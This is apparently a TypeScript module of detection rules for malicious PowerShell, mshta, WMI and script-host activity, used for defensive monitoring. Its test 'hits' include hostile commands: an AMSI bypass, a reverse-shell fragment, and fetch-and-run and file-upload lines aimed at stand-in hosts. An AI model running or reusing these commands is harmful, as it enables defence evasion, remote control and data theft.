/** What code does once PowerShell or a script host runs it on Windows: hidden windows, calls into the system, lures, spying, persistence of its own. */
import { behaviour } from './behaviour.ts';
import { hostClass, isWebDav, isWritablePlace } from './places.ts';
import { all, any, arg, holds, inputsOf, not, onProcess, onScene, onText, said, standsAlone, type Row } from './row.ts';
import type { Process } from '../types.ts';
import { urlOf, urlText, oddUrl } from './windows-scripts.ts';

const HOSTS = ['powershell'];

export const WINDOWS_CODE: readonly Row[] = [
  behaviour('amsi-tamper', ['defence-tamper', 'T1562.001', 'defense-evasion', 'critical', 'high'], {
    reason:
      'The interface by which antivirus reads scripts (AMSI) is reached into, which only serves to switch it off.',
    benign: ['security products test themselves'],
    hits: [
      "powershell \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\"",
    ],
    misses: ['powershell "Get-MpComputerStatus"'],
    look: onText([
      'amsiutils',
      'amsi.dll',
      '__pslockdownpolicy',
      "nonpublic,static')",
      'amsiinitfailed',
      'amsiscanbuffer',
      'amsiscanstring',
      'amsicontext',
      'amsisession',
      'amsiopensession',
      'invisi-shell',
      'invoke-amsibypass',
      'amsibypass',
      'bypass-amsi',
      'amsitrigger',
    ]),
  }),
  behaviour('etw-tamper', ['defence-tamper', 'T1562.006', 'defense-evasion', 'critical', 'high'], {
    reason: 'Event tracing of the process is switched off by reaching into the runtime.',
    benign: [],
    hits: [
      "powershell \"[Reflection.Assembly]::LoadWithPartialName('System.Core').GetType('System.Diagnostics.Eventing.EventProvider').GetField('m_enabled','NonPublic,Instance')\"",
      'set COMPlus_ETWEnabled=0',
    ],
    misses: ['logman query -ets'],
    look: onText([
      'etweventwrite',
      'eventing.eventprovider',
      'complus_etwenabled',
      'etwprovider',
      'psetwlogprovider',
      'pseventlogprovider',
    ]),
  }),
  behaviour('ps-assembly-in-memory', ['in-memory', 'T1620', 'defense-evasion', 'high', 'medium'], {
    reason: 'A program is loaded into memory from bytes, not from a file that could be looked at.',
    benign: ['build tools that load their own libraries'],
    hits: [
      'powershell "[Reflection.Assembly]::Load([Convert]::FromBase64String((gc C:\\a.b64))).EntryPoint.Invoke($null,$null)"',
    ],
    misses: ['powershell "[Reflection.Assembly]::LoadWithPartialName(\'System.Windows.Forms\')"'],
    look: onText([
      'assembly]::load(',
      'appdomain]::currentdomain.load(',
      '.assembly]::loadfrom(',
      'assembly]::loadfile(',
      '[system.reflection.assembly]::load(',
    ]),
  }),
  behaviour('native-memory-calls', ['in-memory', 'T1055', 'defense-evasion', 'critical', 'high'], {
    reason: 'The line reaches for system calls that place code into memory and start it: the marks of injection.',
    benign: ['debuggers'],
    hits: [
      'powershell "$x=VirtualAlloc 0 4096 0x3000 0x40; [Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($a,$b)"',
    ],
    misses: ['powershell "Add-Type -AssemblyName System.Web"'],
    look: onText([
      'virtualalloc',
      'virtualprotect',
      'createremotethread',
      'getdelegateforfunctionpointer',
      'marshal]::copy(',
      'writeprocessmemory',
      'queueuserapc',
      'ntunmapviewofsection',
      'rtlcreateuserthread',
      'ntmapviewofsection',
      'zwunmapviewofsection',
      'createthread(',
      'unsafenativemethods',
      'minidumpwritedump',
      'heapcreate',
      'uuidfromstring',
      'enumsystemlocales',
    ]),
  }),
  behaviour('ps-native-import', ['in-memory', 'T1106', 'execution', 'medium', 'medium'], {
    reason: 'A script declares functions of system libraries to call them directly.',
    benign: ['scripts that change the look of a window'],
    hits: [
      'powershell "Add-Type -MemberDefinition \'[DllImport(\\"user32.dll\\")] public static extern int F();\' -Name a"',
    ],
    misses: ['powershell "Add-Type -AssemblyName System.Web"'],
    look: onText(['dllimport(', 'definedynamicassembly', 'definepinvokemethod', 'getprocaddress', 'getmodulehandle']),
  }),
  behaviour('ps-socket-shell', ['reverse-shell', 'T1059.001', 'command-and-control', 'critical', 'high'], {
    reason: 'A script opens a connection and exchanges commands over it: a shell for whoever is at the other end.',
    benign: ['port tests open a connection but send no commands'],
    hits: [
      'powershell "$c=New-Object Net.Sockets.TCPClient(\'203.0.113.9\',443);$s=$c.GetStream();$o=(iex $d 2>&1|Out-String)"',
    ],
    misses: ['powershell "(New-Object Net.Sockets.TcpClient).Connect(\'db.corp.example\',1433)"'],
    look: onText(
      ['sockets.tcpclient', 'sockets.tcplistener', 'sockets.udpclient', 'net.sockets.socket'],
      ({ lower }) =>
        lower.includes('getstream') ||
        lower.includes('iex ') ||
        lower.includes('invoke-expression') ||
        lower.includes('start-process') ||
        lower.includes('.receive'),
    ),
  }),
  behaviour('ps-hidden-window', ['ps-flags', 'T1564.003', 'defense-evasion', 'medium', 'medium'], {
    reason: 'PowerShell is started with a hidden window, so that the user sees nothing.',
    benign: ['scheduled tasks of administrators', 'software that runs a script in the background'],
    hits: ['powershell -w hidden -c dir', 'powershell -WindowStyle 1 -File a.ps1'],
    misses: ['powershell -NoProfile -File a.ps1', 'powershell -WindowStyle Normal -File a.ps1'],
    look: onProcess(HOSTS, ({ args }) => {
      const at = args.findIndex(({ lower }) => /^[-/\u2013\u2014]w(?:i(?:n(?:d\w*)?)?)?$/.test(lower));
      const value = args[at + 1];
      return at === -1 || value === undefined || !/^(?:h(?:i\w*)?|1)$/.test(value.lower) ? undefined : value;
    }),
  }),
  behaviour('hidden-start', ['ps-flags', 'T1564.003', 'defense-evasion', 'medium', 'medium'], {
    reason: 'A program is started without a window from inside another command.',
    benign: ['background helpers of installed software'],
    hits: [
      'powershell "Start-Process cmd -ArgumentList \'/c dir\' -WindowStyle Hidden"',
      'conhost --headless powershell dir',
    ],
    misses: ['powershell "Start-Process notepad"', 'conhost 0xffffffff -ForceV1'],
    look: onProcess(
      ['start-process', 'conhost', 'new-scheduledtasksettingsset'],
      any(all(holds('hidden')), arg(/^--headless$/), all(arg(/^-w(?:in\w*)?$/), arg(/^(?:hidden|1)$/))),
    ),
  }),
  behaviour('ps-no-policy', ['ps-flags', 'T1059.001', 'execution', 'info', 'low'], {
    reason: 'PowerShell is told to run scripts whatever the policy says.',
    benign: ['nearly every deployment tool'],
    hits: ['powershell -ep bypass -File a.ps1'],
    misses: ['powershell -File a.ps1'],
    look: onProcess(HOSTS, arg(/^(?:bypass|unrestricted)$/)),
  }),
  behaviour('ps-unusual-start', ['ps-flags', 'T1059.001', 'execution', 'low', 'medium'], {
    reason:
      'PowerShell is started with the short flags that people type in a hurry and tools put together (no profile, no interaction, hidden).',
    benign: ['hand-written scheduled tasks'],
    hits: ['powershell -nop -w hidden -c dir', 'powershell -NoP -sta -NonI -c dir'],
    misses: ['powershell -NoProfile -NonInteractive -Command dir'],
    look: onProcess(HOSTS, ({ args }) => {
      const short = args.filter(({ lower }) =>
        /^[-/](?:nop|noni|w|sta|e|en|enc|ec|ep|exec|windo|win|nopr\w{0,3})$/.test(lower),
      );
      return short.length >= 2 ? short[0] : undefined;
    }),
  }),
  behaviour('ps-old-version', ['defence-tamper', 'T1562.010', 'defense-evasion', 'high', 'medium'], {
    reason: 'An old version of PowerShell is asked for, which logs nothing and lets antivirus read nothing.',
    benign: ['very old management scripts'],
    hits: ['powershell -version 2 -c dir', 'powershell -v 2'],
    misses: ['powershell -Version 5.1 -c dir'],
    look: onProcess(HOSTS, ({ args }) => {
      const at = args.findIndex(({ lower }) => /^[-/]v(?:e(?:rsion|rs?)?)?$/.test(lower));
      return at !== -1 && /^2(?:\.0)?$/.test(args[at + 1]?.lower ?? '') ? args[at + 1] : undefined;
    }),
  }),
  behaviour('ps-name-by-pattern', ['hidden-name', 'T1027', 'defense-evasion', 'high', 'high'], {
    reason: 'A command is looked up by a pattern or spelled from other names, so that its own name does not occur.',
    benign: [],
    hits: [
      'powershell "\'dir\'|&(GCM I*e-E*)"',
      'powershell "& (gal i?x) dir"',
      'powershell ".($PSHome[4]+$PSHome[30]+\'x\') dir"',
    ],
    misses: ['powershell "Get-Command Get-*"'],
    look: onText(
      [
        '(gcm ',
        '(gal ',
        '(get-alias ',
        '(get-command ',
        '$shellid[',
        '$pshome[',
        '$env:comspec[',
        '$verbosepreference',
        '(gci alias',
        '(dir alias',
        'getcmdlet(',
        'invokecommand|',
      ],
      ({ lower }, at) =>
        /^(?:\((?:gcm|gal|get-alias|get-command) ['"]?(?:\w{0,3}[*?][\w*?-]*)|\$(?:shellid|pshome|env:comspec)\[|\$verbosepreference\.|\((?:gci|dir) alias|getcmdlet|invokecommand\|)/.test(
          lower.slice(at, at + 60),
        ),
    ),
  }),
  behaviour('ps-runs-stored', ['stored-code', 'T1059.001', 'execution', 'high', 'medium'], {
    reason: 'PowerShell runs text that it reads from a file, the registry, an event log or a name record.',
    benign: ['scripts that load their own parts'],
    hits: ['powershell "iex (gp HKCU:\\Software\\x).v"', 'powershell "gc C:\\ProgramData\\a.txt | iex"'],
    misses: ['powershell "gc C:\\ProgramData\\a.txt"'],
    look: onProcess(['invoke-expression'], (process, scene) =>
      inputsOf(process, scene).find(({ name }) =>
        /^(?:get-content|get-itemproperty|get-itempropertyvalue|resolve-dnsname|get-clipboard|get-winevent|\.readalltext|\.getvalue|nslookup|more|type|cat)$/.test(
          name,
        ),
      ),
    ),
  }),
  behaviour('ps-runs-value', ['stored-code', 'T1059.001', 'execution', 'low', 'high'], {
    reason: 'PowerShell runs the value of a variable or a text as a command.',
    benign: ['scripts that put a command line together'],
    hits: ['powershell "iex $x"', 'powershell "Invoke-Expression \'dir\'"'],
    misses: ['powershell "Invoke-Command -ScriptBlock { dir }"'],
    look: onProcess(['invoke-expression']),
  }),
  behaviour('ps-script-from-writable', ['user-folder-run', 'T1059.001', 'execution', 'medium', 'medium'], {
    reason: 'A script in a folder that everybody can write to is run by PowerShell.',
    benign: ['deployment tools unpack their scripts there'],
    hits: ['powershell -ep bypass -f C:\\Users\\Public\\x.ps1', 'powershell "C:\\Windows\\Temp\\a.ps1"'],
    misses: ['powershell -File C:\\Scripts\\a.ps1'],
    look: onProcess(['*'], (process) =>
      /\.ps1$/i.test(process.program) &&
      isWritablePlace(process.program) &&
      !/^c:\\packages\\plugins|\\chocolatey\\|\\ccmcache\\|imecache|intune/i.test(process.program)
        ? process
        : undefined,
    ),
  }),
  behaviour('script-host-writable', ['user-folder-run', 'T1059.005', 'execution', 'high', 'medium'], {
    reason:
      'A Windows script lies in a folder that everybody can write to, or in a share, and is run by the script host.',
    benign: ['installers that clean up after themselves'],
    hits: ['wscript.exe C:\\Users\\jd\\AppData\\Local\\Temp\\a.js', 'cscript //nologo \\\\203.0.113.9\\x\\a.vbs'],
    misses: ['cscript.exe C:\\Windows\\System32\\slmgr.vbs /dli', 'cscript //nologo C:\\Scripts\\inventory.vbs'],
    look: onProcess(['wscript', 'cscript'], ({ args }) =>
      args.find(
        ({ role, lower }) =>
          role !== 'flag' &&
          (isWritablePlace(lower) || isWebDav(lower) || /^\\\\|^https?:/.test(lower)) &&
          !/\\(?:sysvol|netlogon)\\/.test(lower),
      ),
    ),
  }),
  behaviour('script-host-engine', ['script-engine', 'T1059.005', 'defense-evasion', 'high', 'high'], {
    reason: 'The script host is told to run a file that does not look like a script.',
    benign: [],
    hits: ['wscript.exe //E:vbscript C:\\x\\invoice.txt', 'cscript /e:jscript a.log'],
    misses: ['cscript //nologo a.vbs'],
    look: onProcess(['wscript', 'cscript'], (process) => {
      const engine = process.args.find(({ lower }) => /^\/{1,2}e:/.test(lower));
      return engine !== undefined &&
        process.args.some(({ role, lower }) => role !== 'flag' && !/\.(?:vbs|vbe|jse?|wsf)$/.test(lower))
        ? engine
        : undefined;
    }),
  }),
  behaviour('script-file-started', ['user-folder-run', 'T1204.002', 'execution', 'medium', 'medium'], {
    reason:
      'A script or screen saver in a folder of the user is started as a program: what happens when somebody opens an attachment.',
    benign: ['scripts of administrators in their own folders'],
    hits: ['"C:\\Users\\jd\\AppData\\Local\\Temp\\x.zip\\invoice.js"', 'C:\\Users\\jd\\Downloads\\scan.scr /S'],
    misses: ['C:\\Scripts\\build.cmd'],
    look: onProcess(['*'], (process) =>
      /\.(?:jse?|vbs|vbe|wsf|hta|scr|pif|lnk|cpl|sct)$/i.test(process.program) && isWritablePlace(process.program)
        ? process
        : undefined,
    ),
  }),
  behaviour('mshta-remote', ['proxy-remote', 'T1218.005', 'defense-evasion', 'critical', 'high'], {
    reason: 'mshta runs a page from the network or a script in its arguments, outside every browser protection.',
    benign: [],
    hits: [
      'mshta http://a.example.net/a.hta',
      'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run(""calc"")")',
      'mshta "javascript:close()"',
    ],
    misses: ['mshta.exe "C:\\Program Files\\HelpDesk\\ticket.hta"'],
    look: onProcess(
      ['mshta'],
      ({ args }) =>
        args.find(({ lower }) =>
          /^["']?(?:https?:|ftp:|file:|javascript:|vbscript:|about:|\\\\|script:)/.test(lower),
        ) ?? args.find(({ lower }) => /getobject\(|activexobject|createobject|wscript\.shell/.test(lower)),
    ),
  }),
  behaviour('mshta-file', ['proxy-local', 'T1218.005', 'defense-evasion', 'medium', 'medium'], {
    reason: 'mshta runs a page from a folder that everybody can write to, or a file that is no page by its name.',
    benign: ['in-house forms'],
    hits: ['mshta C:\\Users\\Public\\a.hta', 'mshta C:\\x\\a.png'],
    misses: ['mshta.exe "C:\\Program Files\\HelpDesk\\ticket.hta"'],
    look: onProcess(['mshta'], ({ args }) =>
      args.find(({ lower }) => isWritablePlace(lower) || /\.(?:png|jpg|txt|mp[34]|dat|log|gif)$/.test(lower)),
    ),
  }),
  behaviour('lure-text', ['lure', 'T1204.004', 'initial-access', 'critical', 'high'], {
    reason:
      'The line carries words for a person (a captcha, a verification number): somebody was talked into pasting it.',
    benign: [],
    hits: [
      'powershell -c "dir" # I am not a robot - reCAPTCHA Verification ID: 1234',
      'msiexec /i https://a.example.net/v.msi /qn # Press OK to verify you are human',
    ],
    misses: ['npm install recaptcha-v3 --save'],
    look: onText([
      'not a robot',
      'verification id',
      'verification hash',
      'verify you are human',
      'verify that you are human',
      'human verification',
      'captcha verification',
      'captcha id',
      'cloudflare verification',
      'press ok to',
      'security verification',
      'identification:',
      'ray id',
      'ʀᴏʙᴏᴛ',
      '✅',
      '🤖',
    ]),
  }),
  behaviour('lure-site', ['lure', 'T1204.004', 'initial-access', 'high', 'medium'], {
    reason: 'The address that is fetched pretends to check that the user is human.',
    benign: [],
    hits: [
      'mshta https://verify-human-check.example.top/a.mp4',
      'powershell irm https://captcha-verify.example.net/a|iex',
    ],
    misses: ['curl https://www.google.com/recaptcha/api/siteverify'],
    look: onProcess(
      ['mshta', 'msiexec', 'invoke-webrequest', 'invoke-restmethod', '.downloadstring', 'curl', 'certutil', 'rundll32'],
      (process) => {
        const url = urlOf(process);
        return url !== undefined &&
          /(?:captcha|human|verif|robot|not-?bot|cloudf?la?re?-)/.test(urlText(url)) &&
          hostClass(urlText(url)) !== 'vendor'
          ? url
          : undefined;
      },
    ),
  }),
  behaviour('network-into-shell', ['fetch-run', 'T1059.003', 'execution', 'critical', 'high'], {
    reason: 'What comes from the network is piped into a command interpreter.',
    benign: [],
    hits: [
      'cmd /c "finger user@203.0.113.9 | cmd"',
      'curl http://a.example.net/x | cmd',
      'type \\\\203.0.113.9\\a\\x.txt | powershell -',
    ],
    misses: ['type a.txt | findstr x', 'echo y | cmd'],
    look: onProcess(['cmd', 'powershell', 'pwsh'], (process, scene) =>
      inputsOf(process, scene).find(
        ({ name, args }) =>
          /^(?:finger|curl|wget|nslookup|ftp|tftp|certutil|nc|ncat|\.downloadstring|invoke-webrequest|invoke-restmethod)$/.test(
            name,
          ) || args.some(({ lower }) => /^\\\\/.test(lower)),
      ),
    ),
  }),
  behaviour('ps-remote-session', ['remote-run', 'T1021.006', 'lateral-movement', 'medium', 'low'], {
    reason: 'A command or session is opened on another computer.',
    benign: ['administration of servers'],
    hits: [
      'powershell "Invoke-Command -ComputerName srv1 -ScriptBlock { whoami }"',
      'powershell "Enter-PSSession srv1"',
    ],
    misses: ['powershell "Invoke-Command -ScriptBlock { dir }"'],
    look: onProcess(
      ['invoke-command', 'enter-pssession', 'new-pssession', 'winrs', 'new-cimsession'],
      any(
        arg(/^-(?:co\w*|cn|session|vmname|hostname)$/),
        all((process) => (/enter-pssession|winrs/.test(process.name) && process.args.length > 0 ? process : undefined)),
      ),
    ),
  }),
  behaviour('ps-com-launch', ['com-launch', 'T1559.001', 'execution', 'medium', 'medium'], {
    reason: 'A script asks a system object (Shell, Excel, MMC) to start programs or fetch for it.',
    benign: ['scripts that make shortcuts'],
    hits: [
      "powershell \"$a=[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','203.0.113.9'))\"",
      "powershell \"(New-Object -ComObject MsXml2.ServerXmlHttp).Open('GET','http://a')\"",
    ],
    misses: ['powershell "(New-Object -ComObject WScript.Shell).CreateShortcut(\'a.lnk\')"'],
    look: onText([
      'mmc20.application',
      'gettypefromclsid',
      'gettypefromprogid',
      'msxml2.',
      'xmlhttp',
      'internetexplorer.application',
      'excel.application',
      'shellbrowserwindow',
      'winhttp.winhttprequest',
      'schedule.service',
      'document.application',
      'shellwindows',
      'word.application',
      'htmlfile',
      'outlook.application',
    ]),
  }),
  behaviour('wmi-start', ['remote-run', 'T1047', 'execution', 'high', 'low'], {
    reason: 'A program is started through WMI, which makes the service its parent and works across the network.',
    benign: ['management tools'],
    hits: [
      'wmic process call create notepad.exe',
      'powershell "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc"',
      "powershell \"([wmiclass]'Win32_Process').Create('calc')\"",
    ],
    misses: ['wmic process get name', 'wmic process where name="a.exe" call terminate'],
    look: onProcess(
      ['wmic', 'invoke-wmimethod', 'invoke-cimmethod', '.create', 'wmiexec', 'set-wmiinstance'],
      (process, scene) => {
        if (process.name === '.create')
          return [process, ...inputsOf(process, scene)].some(({ program }) => /win32_process/i.test(program))
            ? process
            : undefined;
        const words = said(process);
        if (process.name === 'wmic') return /(?:^|\s)process\b.*\bcreate\b/.test(words) ? process : undefined;
        return /win32_process/.test(words) && words.includes('create') ? process : undefined;
      },
    ),
  }),
  behaviour('wmi-remote', ['remote-run', 'T1047', 'lateral-movement', 'high', 'medium'], {
    reason: "WMI starts a program on another computer, or with another user's password in the line.",
    benign: ['administration without remote PowerShell'],
    hits: ['wmic /node:10.1.2.3 process call create calc.exe'],
    misses: ['wmic /node:srv1 os get caption'],
    look: onProcess(['wmic'], all(arg(/^\/(?:node|user|password)[:=]/), arg(/^create$/))),
  }),
  behaviour('wmic-script', ['proxy-remote', 'T1220', 'defense-evasion', 'critical', 'high'], {
    reason:
      'WMIC formats its output by a style sheet from the network or a folder of the user, which runs the scripts in it.',
    benign: [],
    hits: ['wmic os get /format:"https://a.example.net/a.xsl"', 'wmic process list /format:evil.xsl'],
    misses: ['wmic os get caption /format:list', 'wmic process get name /format:csv'],
    look: onProcess(['wmic'], arg(/^\/format:"?(?:https?:|\\\\|\S{1,200}\.xsl)/)),
  }),
  behaviour('keys-and-screens', ['spying', 'T1056.001', 'collection', 'high', 'high'], {
    reason: 'Keys that are typed or pictures of the screen are recorded.',
    benign: ['remote support'],
    hits: [
      'powershell "[API]::GetAsyncKeyState($k)"',
      'powershell "$g.CopyFromScreen(0,0,0,0,$s)"',
      'psr.exe /start /output C:\\x.zip /sc 1 /gui 0',
    ],
    misses: ['powershell "Get-Process"'],
    look: onText([
      'getasynckeystate',
      'setwindowshookex',
      'getforegroundwindow',
      'copyfromscreen',
      'get-keystrokes',
      'psr.exe /start',
      'psr /start',
      'getkeyboardstate',
      'get-timedscreenshot',
    ]),
  }),
  behaviour('ps-upload', ['exfiltration', 'T1041', 'exfiltration', 'medium', 'medium'], {
    reason: 'Data is sent out with the web client of PowerShell or .NET.',
    benign: ['scripts that call a web service'],
    hits: [
      "powershell \"(New-Object Net.WebClient).UploadFile('http://a.example.net/u','C:\\x.zip')\"",
      'powershell "iwr http://203.0.113.9/u -Method POST -InFile C:\\x.zip"',
    ],
    misses: ['powershell "iwr https://api.corp.example/v1 -Method GET"'],
    look: onProcess(
      [
        '.uploadfile',
        '.uploaddata',
        '.uploadstring',
        'invoke-webrequest',
        'invoke-restmethod',
        'send-mailmessage',
        '.sendasync',
      ],
      any(
        (process) =>
          process.name.startsWith('.') ||
          (process.name === 'send-mailmessage' && process.args.some(({ lower }) => lower.startsWith('-attach')))
            ? process
            : undefined,
        arg(/^-inf(?:ile)?$/),
        all(arg(/^(?:post|put)$/), (process) => oddUrl(process)),
      ),
    ),
  }),
  behaviour('curl-upload-odd', ['exfiltration', 'T1048', 'exfiltration', 'high', 'medium'], {
    reason: 'A file is sent to an address that no vendor uses.',
    benign: ['test uploads'],
    hits: ['curl -T C:\\x.zip http://203.0.113.9/', 'curl -F "file=@C:\\x.zip" http://203.0.113.9:8080/u'],
    misses: ['curl -T a.zip https://artifacts.corp.example/a.zip'],
    look: onProcess(
      ['curl'],
      all(
        ({ args }) =>
          args.find(
            ({ text }) =>
              /^(?:-[TF]|--upload-file|--form|--data-binary)$/.test(text) || /^[\w-]{1,30}=@|^@[\w/\\]/.test(text),
          ),
        (process) => oddUrl(process),
      ),
    ),
  }),
  behaviour('ps-clipboard-run', ['stored-code', 'T1059.001', 'execution', 'high', 'medium'], {
    reason: 'What is in the clipboard is run as a command.',
    benign: [],
    hits: ['powershell "iex (Get-Clipboard)"', 'echo ifconfig | pbcopy; $(pbpaste)'],
    misses: ['powershell "Get-Clipboard -Raw"', 'pbpaste > a.txt'],
    look: onScene(({ processes, layers }) => {
      const clip = processes.find(({ name }) => name === 'get-clipboard' || name === 'pbpaste');
      if (clip === undefined) return undefined;
      const isRun =
        processes.some(
          ({ name, input }) => input === clip.index && /^(?:invoke-expression|sh|bash|zsh|\$\()/.test(name),
        ) ||
        (layers[clip.layer]?.lower.includes('$(pbpaste') === true &&
          processes.some(({ program }) => program.startsWith('$(pbpaste')));
      return isRun ? { layer: clip.layer, start: clip.span.start, end: clip.span.end } : undefined;
    }),
  }),
  behaviour('ps-profile-write', ['persistence-profile', 'T1546.013', 'persistence', 'high', 'medium'], {
    reason: 'The profile that every PowerShell reads at its start is written.',
    benign: ['developers set up their shell'],
    hits: ['powershell "Add-Content $profile \'calc\'"', 'powershell "echo x > $PROFILE.AllUsersAllHosts"'],
    misses: ['powershell "Test-Path $profile"'],
    look: onProcess(
      ['add-content', 'set-content', 'out-file', 'echo', 'copy-item', 'write-output'],
      holds('$profile', 'microsoft.powershell_profile.ps1', '$pshome\\profile.ps1'),
    ),
  }),
  behaviour('ps-log-off', ['defence-tamper', 'T1562.002', 'defense-evasion', 'high', 'medium'], {
    reason: 'Logging of PowerShell or its history is switched off.',
    benign: ['privacy settings of a developer'],
    hits: [
      'powershell "Set-PSReadLineOption -HistorySaveStyle SaveNothing"',
      'reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging /v EnableScriptBlockLogging /d 0',
    ],
    misses: ['powershell "Get-PSReadLineOption"'],
    look: onText(
      [
        'savenothing',
        'enablescriptblocklogging',
        'enablemodulelogging',
        'enabletranscripting',
        'consolehost_history',
        '.historysavepath',
      ],
      ({ lower }, at, literal) =>
        (literal === 'savenothing' ||
          /(?:remove-item|\bdel\b|\brm\b|clear|set-content|\/d 0|value 0|-type dword -value 0|\$false)/.test(lower)) &&
        standsAlone({ lower } as never, at, literal),
    ),
  }),
];
